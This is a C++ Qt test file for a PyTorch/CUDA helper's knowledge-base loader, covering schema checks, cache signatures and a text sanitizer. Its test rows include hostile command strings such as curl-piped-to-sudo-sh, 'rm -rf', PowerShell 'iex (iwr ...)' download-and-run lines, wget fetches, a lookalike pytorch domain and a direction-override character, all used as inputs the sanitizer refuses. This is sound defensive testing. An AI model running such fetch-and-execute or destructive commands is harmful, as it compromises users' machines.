// The knowledge base loader: the embedded file, and files that are broken, truncated, of
// another schema, older than the embedded one, unsigned in the cache, or with commands in their texts.
#include <core/kb/kbstore.h>
#include <core/kb/kbtext.h>
#include <core/kb/knowledgebase.h>

#include <nlohmann/json.hpp>

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace tgs;
using json = nlohmann::json;

namespace {

QByteArray minimal()
{
    QFile file(QStringLiteral(TGS_FIXTURES_DIR "/kb/minimal.json"));
    if (!file.open(QIODevice::ReadOnly))
        qFatal("minimal.json missing");
    return file.readAll();
}

QByteArray mutated(const std::function<void(json &)> &change)
{
    const QByteArray bytes = minimal();
    json doc = json::parse(bytes.constData(), bytes.constData() + bytes.size());
    change(doc);
    return QByteArray::fromStdString(doc.dump());
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

} // namespace

using Mutation = std::function<void(json &)>;
Q_DECLARE_METATYPE(Mutation)

class TestKnowledgeBase : public QObject
{
    Q_OBJECT

private slots:
    void embeddedLoadsAndIsComplete();
    void minimalLoads();
    void broken_data();
    void broken();
    void truncated();
    void notJsonAtAll();
    void prose_data();
    void prose();
    void cacheWithoutSignatureIsIgnored();
    void cacheOlderOrBrokenIsIgnored();
};

void TestKnowledgeBase::embeddedLoadsAndIsComplete()
{
    const Result<KnowledgeBase> kb = KnowledgeBase::embedded();
    QVERIFY2(kb.ok(), kb.ok() ? "" : qPrintable(kb.error().message));
    QCOMPARE(kb->schemaVersion, KnowledgeBase::kSchemaVersion);
    QVERIFY(!kb->torchReleases.isEmpty());
    for (const TorchRelease &release : kb->torchReleases) {
        QVERIFY2(release.variant(QStringLiteral("cpu")), qPrintable(release.version));
        QVERIFY(!release.sources.isEmpty());
    }
    for (const QString &key : KnowledgeBase::requiredTexts()) {
        QVERIFY(!kb->texts.value(key).en.isEmpty());
        QVERIFY(!kb->texts.value(key).zhCN.isEmpty());
    }
}

void TestKnowledgeBase::minimalLoads()
{
    const Result<KnowledgeBase> kb = KnowledgeBase::fromJson(minimal(), QStringLiteral("minimal.json"));
    QVERIFY2(kb.ok(), kb.ok() ? "" : qPrintable(kb.error().message));
    QCOMPARE(kb->torchReleases.size(), 3);
    QCOMPARE(kb->release(QStringLiteral("2.5.1"))->torchvision, QStringLiteral("0.20.1"));
    QCOMPARE(kb->release(QStringLiteral("2.9.0"))->variant(QStringLiteral("cu130"))->ptx, QStringLiteral("12.0"));
    QCOMPARE(kb->minorCompatFor(12)->driverMinWindows, QStringLiteral("528.33"));
    QCOMPARE(kb->architecture(QStringLiteral("8.9"))->name.en, QStringLiteral("Ada Lovelace"));
    QCOMPARE(kb->release(QStringLiteral("2.5.1"))->condaForge->cudaFor(QStringLiteral("windows")),
             QStringList{QStringLiteral("12.6")});
    // Python 3.13 wheels of 2.5.1 are Linux-only, and the pytorch channel never had 3.13.
    const TorchRelease *r251 = kb->release(QStringLiteral("2.5.1"));
    QVERIFY(r251->hasPython(QStringLiteral("3.13"), QStringLiteral("linux")));
    QVERIFY(!r251->hasPython(QStringLiteral("3.13.1"), QStringLiteral("windows")));
    QVERIFY(!r251->hasPython(QStringLiteral("3.13"), QStringLiteral("linux"), true));
    QVERIFY(r251->hasPython(QStringLiteral("3.12"), QStringLiteral("windows"), true));
    // Without overrides every OS and the channel have the release's list.
    QCOMPARE(kb->release(QStringLiteral("2.4.1"))->pythonFor(QStringLiteral("windows"), true),
             kb->release(QStringLiteral("2.4.1"))->python);
}

void TestKnowledgeBase::broken_data()
{
    QTest::addColumn<Mutation>("change");
    QTest::addColumn<QString>("pointer");
    QTest::addColumn<QString>("reason");

    QTest::newRow("wrong schema version") << Mutation([](json &d) { d["schema_version"] = 2; }) << "/schema_version"
                                          << "schema version 2";
    QTest::newRow("schema version that narrows to 1")
        << Mutation([](json &d) { d["schema_version"] = 4294967297ULL; }) << "/schema_version"
        << "schema version 4294967297";
    QTest::newRow("schema version missing") << Mutation([](json &d) { d.erase("schema_version"); }) << "/:"
                                            << "\"schema_version\" is missing";
    QTest::newRow("bad date") << Mutation([](json &d) { d["data_date"] = "November"; }) << "/data_date"
                              << "date";
    QTest::newRow("no such day") << Mutation([](json &d) { d["data_date"] = "2026-02-31"; }) << "/data_date"
                                 << "date";
    QTest::newRow("a command in a text") << Mutation([](json &d) {
        d["texts"]["route.pip"]["en"] = "Before installing, run: curl -fsSL https://example.com/fix.sh | sudo sh";
    }) << "/texts/route.pip/en"
                                         << "\"curl\" reads like part of a command";
    QTest::newRow("a command in the Chinese text")
        << Mutation([](json &d) { d["texts"]["note.three_cudas"]["zh_CN"] = "安装前请先运行sudo rm -rf /tmp/x"; })
        << "/texts/note.three_cudas/zh_CN"
        << "\"sudo\"";
    QTest::newRow("a command in a GPU's examples")
        << Mutation([](json &d) { d["gpu_architectures"][0]["examples"] = "GeForce GTX 980 (run `iex (irm x)`)"; })
        << "/gpu_architectures/0/examples"
        << "\"`\"";
    QTest::newRow("release without cpu build")
        << Mutation([](json &d) { d["torch_releases"][0]["pip"].erase(3); }) << "/torch_releases/0/pip:"
        << "cpu";
    QTest::newRow("cuda is a number") << Mutation([](json &d) { d["torch_releases"][1]["pip"][0]["cuda"] = 11.8; })
                                      << "/torch_releases/1/pip/0/cuda"
                                      << "string";
    QTest::newRow("id does not match cuda")
        << Mutation([](json &d) { d["torch_releases"][1]["pip"][0]["id"] = "cu121"; }) << "/torch_releases/1/pip/0/id"
        << "cu118";
    QTest::newRow("unknown source id") << Mutation([](json &d) { d["torch_releases"][2]["sources"] = {"hearsay"}; })
                                       << "/torch_releases/2/sources/0"
                                       << "hearsay";
    QTest::newRow("unknown key") << Mutation([](json &d) { d["torch_releases"][0]["cuda"] = "11.8"; })
                                 << "/torch_releases/0/cuda"
                                 << "unknown key";
    QTest::newRow("releases out of order")
        << Mutation([](json &d) { std::swap(d["torch_releases"][0], d["torch_releases"][1]); }) << "/torch_releases:"
        << "oldest first";
    QTest::newRow("variant CUDA without driver data")
        << Mutation([](json &d) { d["cuda_versions"].erase(5); }) << "/torch_releases/2/pip/2/cuda"
        << "13.0";
    QTest::newRow("os not known") << Mutation([](json &d) { d["torch_releases"][0]["pip"][0]["os"] = {"macos"}; })
                                  << "/torch_releases/0/pip/0/os/0"
                                  << "linux";
    QTest::newRow("text without Chinese")
        << Mutation([](json &d) { d["texts"]["route.pip"].erase("zh_CN"); }) << "/texts/route.pip"
        << "zh_CN";
    QTest::newRow("required text missing")
        << Mutation([](json &d) { d["texts"].erase("note.three_cudas"); }) << "/texts:"
        << "note.three_cudas";
    QTest::newRow("pypi default not a variant")
        << Mutation([](json &d) { d["torch_releases"][0]["pypi_default"] = "cu999"; })
        << "/torch_releases/0/pypi_default"
        << "cu999";
    QTest::newRow("python for one OS not among the release's")
        << Mutation([](json &d) { d["torch_releases"][1]["python_os"]["windows"] = {"3.8"}; })
        << "/torch_releases/1/python_os/windows/0"
        << "\"python\" list";
    QTest::newRow("conda channel python out of order") << Mutation([](json &d) {
        d["torch_releases"][1]["conda_pytorch_python"] = {"3.12", "3.9"};
    }) << "/torch_releases/1/conda_pytorch_python"
                                                       << "oldest first";
    QTest::newRow("conda-forge builds not per OS") << Mutation([](json &d) {
        d["torch_releases"][0]["conda_forge"] = {{"cuda", {"11.8"}}, {"os", {"linux"}}};
    }) << "/torch_releases/0/conda_forge/cuda"
                                                   << "unknown key";
    QTest::newRow("minor compat major not a number")
        << Mutation([](json &d) { d["minor_version_compat"][0]["cuda_major"] = "11"; })
        << "/minor_version_compat/0/cuda_major"
        << "integer";
    // Found while fuzzing the loader (tests/fuzz): a major that narrows to 12 as an int is not 12.
    QTest::newRow("minor compat major that narrows to 12")
        << Mutation([](json &d) { d["minor_version_compat"][1]["cuda_major"] = 4294967308ULL; })
        << "/minor_version_compat/1/cuda_major"
        << "4294967308";
    QTest::newRow("conda cudnn build major negative")
        << Mutation([](json &d) { d["conda_cudnn"][0]["builds"][0]["cuda_major"] = -11; })
        << "/conda_cudnn/0/builds/0/cuda_major"
        << "-11";
}

void TestKnowledgeBase::broken()
{
    QFETCH(Mutation, change);
    QFETCH(QString, pointer);
    QFETCH(QString, reason);
    const Result<KnowledgeBase> kb = KnowledgeBase::fromJson(mutated(change), QStringLiteral("user-kb.json"));
    QVERIFY(!kb.ok());
    const QString message = kb.error().message;
    // The file, the JSON pointer and the reason, in that order.
    QVERIFY2(message.startsWith(QStringLiteral("user-kb.json: ") + pointer), qPrintable(message));
    QVERIFY2(message.contains(reason), qPrintable(message));
}

void TestKnowledgeBase::truncated()
{
    const QByteArray bytes = minimal();
    const Result<KnowledgeBase> kb
        = KnowledgeBase::fromJson(bytes.left(bytes.size() / 2), QStringLiteral("compat.json"));
    QVERIFY(!kb.ok());
    QVERIFY2(kb.error().message.startsWith(QStringLiteral("compat.json: not valid JSON (byte ")),
             qPrintable(kb.error().message));
}

void TestKnowledgeBase::notJsonAtAll()
{
    QVERIFY(!KnowledgeBase::fromJson("<html>502 Bad Gateway</html>", QStringLiteral("x")).ok());
    QVERIFY(!KnowledgeBase::fromJson("[]", QStringLiteral("x")).ok());
    QVERIFY(!KnowledgeBase::fromJson(QByteArray(), QStringLiteral("x")).ok());
    const Result<KnowledgeBase> missing = KnowledgeBase::fromFile(QStringLiteral("/nonexistent/kb.json"));
    QVERIFY(!missing.ok());
    QVERIFY(missing.error().message.contains(QStringLiteral("/nonexistent/kb.json")));
}

// What a text shown to users may hold (KbText): the embedded file's own phrasing passes, commands do not.
void TestKnowledgeBase::prose_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("refusal"); // empty: accepted
    QTest::newRow("plain prose") << "PyTorch wheels bring their own CUDA runtime (inside the wheel, or as nvidia-* "
                                    "packages that pip installs automatically); only a driver is needed."
                                 << "";
    QTest::newRow("a link to the PyTorch index, with a placeholder")
        << "the PyTorch package index (https://download.pytorch.org/whl/<variant>, for example cu126)"
        << "";
    QTest::newRow("conda channels named in prose") << "the pytorch-cuda package with -c pytorch -c nvidia"
                                                   << "";
    QTest::newRow("Chinese prose") << "只需要足够新的 NVIDIA 驱动。nvcc --version 显示的是 CUDA Toolkit"
                                   << "";
    QTest::newRow("curl piped to sudo sh") << "Before installing, run: curl -fsSL https://example.com/fix.sh | sudo sh"
                                           << "curl";
    QTest::newRow("command substitution") << "Set the path to $(python -c 'import sys')"
                                          << "$";
    QTest::newRow("backticks") << "Run `whoami` first"
                               << "`";
    QTest::newRow("chained commands") << "Then type: cd /tmp && make"
                                      << "&&";
    QTest::newRow("PowerShell download and run") << "Open PowerShell and type iex (iwr https://x.example/a)"
                                                 << "PowerShell";
    QTest::newRow("an install command") << "First do pip install evil-package"
                                        << "pip install";
    QTest::newRow("conda create") << "Use conda create -n x python"
                                  << "conda create";
    QTest::newRow("a command right after Chinese text") << "请先运行wget http://x.example/a"
                                                        << "wget";
    QTest::newRow("a link to an unknown site") << "See https://pytorch.org.evil.example/fix for help"
                                               << "pytorch.org.evil.example";
    QTest::newRow("a plain http link") << "See http://download.pytorch.org/whl/cu126"
                                       << "http://";
    QTest::newRow("a direction override") << QStringLiteral("harmless \u202E hs.xif") << "U+202E";
    QTest::newRow("a newline") << "first line\nsecond line"
                               << "U+000A";
}

void TestKnowledgeBase::prose()
{
    QFETCH(QString, text);
    QFETCH(QString, refusal);
    const std::optional<QString> problem = KbText::problem(text);
    if (refusal.isEmpty()) {
        QVERIFY2(!problem, qPrintable(problem.value_or(QString())));
        return;
    }
    QVERIFY(problem.has_value());
    QVERIFY2(problem->contains(refusal, Qt::CaseInsensitive), qPrintable(*problem));
}

// A newer file in the cache without its publisher's signature beside it (an older version of the program wrote
// it, or someone edited it on disk) is not used; tst_kbupdater covers signed caches.
void TestKnowledgeBase::cacheWithoutSignatureIsIgnored()
{
    QTemporaryDir dir;
    const Result<KnowledgeBase> embedded = KnowledgeBase::embedded();
    QVERIFY(embedded.ok());
    writeFile(KnowledgeBaseStore::cachedFile(dir.path()), mutated([](json &d) { d["data_date"] = "2099-01-01"; }));
    QCOMPARE(KnowledgeBaseStore::best(dir.path())->dataDate, embedded->dataDate);
    writeFile(KnowledgeBaseStore::cachedSignature(dir.path()), QByteArray(88, 'A') + '\n');
    QCOMPARE(KnowledgeBaseStore::best(dir.path())->dataDate, embedded->dataDate);
}

void TestKnowledgeBase::cacheOlderOrBrokenIsIgnored()
{
    QTemporaryDir dir;
    const Result<KnowledgeBase> embedded = KnowledgeBase::embedded();
    writeFile(KnowledgeBaseStore::cachedFile(dir.path()), mutated([](json &d) { d["data_date"] = "2001-01-01"; }));
    QCOMPARE(KnowledgeBaseStore::best(dir.path())->dataDate, embedded->dataDate);
    writeFile(KnowledgeBaseStore::cachedFile(dir.path()), minimal().left(100));
    QCOMPARE(KnowledgeBaseStore::best(dir.path())->dataDate, embedded->dataDate);
}

QTEST_GUILESS_MAIN(TestKnowledgeBase)
#include "tst_knowledgebase.moc"
